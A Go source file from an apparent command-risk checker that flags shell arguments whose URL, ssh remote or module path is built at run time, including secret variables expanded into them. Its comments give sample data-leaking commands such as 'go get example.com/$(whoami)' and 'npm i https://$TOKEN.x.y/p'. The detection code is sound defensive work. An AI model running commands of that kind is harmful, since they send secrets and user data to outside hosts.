// Names built at run time: a host, a repository URL or a module path
// with data expanded into it carries that data to whoever resolves or
// serves the name.

package risk

import (
	"strings"

	"github.com/sayso-dev/sayso/internal/program"
)

// builtNames classifies the addresses a program is given whose text is
// built at run time (git clone https://$(…).example/x, go get
// example.com/$(whoami), npm i https://$TOKEN.x.y/p): the name server,
// the proxy and the host read what was expanded into them, whatever the
// program does with the answer. dig, nslookup and curl judge their own.
func (c *cmd) builtNames() {
	if program.Is(c.name, program.Looks) {
		return
	}
	for _, w := range c.args {
		if w.Literal {
			continue
		}
		raw := strings.Trim(w.Raw, `"'`)
		if strings.HasPrefix(raw, "-") {
			at := strings.IndexByte(raw, '=')
			if at < 0 {
				continue
			}
			raw = strings.TrimLeft(raw[at+1:], `"'`)
		}
		dollar := strings.IndexAny(raw, "$`")
		if dollar <= 0 {
			continue // an address wholly built at run time: the program's own checks judge it
		}
		if addressPrefix(raw[:dollar]) {
			for _, v := range w.Params {
				if secretVar(v) {
					c.add(Secret, SendsCredential.By(c.name, "$"+v, w.Raw))
				}
			}
			c.add(Network, BuiltAtRunTime.By(c.name, "", w.Raw))
			return
		}
	}
}

// addressPrefix reports whether the fixed start of a word is the start of
// an address: a URL (scheme://), an ssh remote (git@host:, user@host), or
// a module path (host.tld/…).
func addressPrefix(p string) bool {
	if i := strings.Index(p, "://"); i > 0 && !strings.ContainsAny(p[:i], "/ ") {
		return !strings.HasPrefix(p, "file://")
	}
	if strings.ContainsAny(p, " =") {
		return false
	}
	if at := strings.IndexByte(p, '@'); at > 0 && !strings.Contains(p[:at], "/") {
		return true // user@host: the host, or the user, is built
	}
	slash := strings.IndexByte(p, '/')
	if slash <= 0 {
		return false
	}
	host := p[:slash]
	dot := strings.LastIndexByte(host, '.')
	return dot > 0 && dot < len(host)-2 && !strings.HasPrefix(host, ".")
}
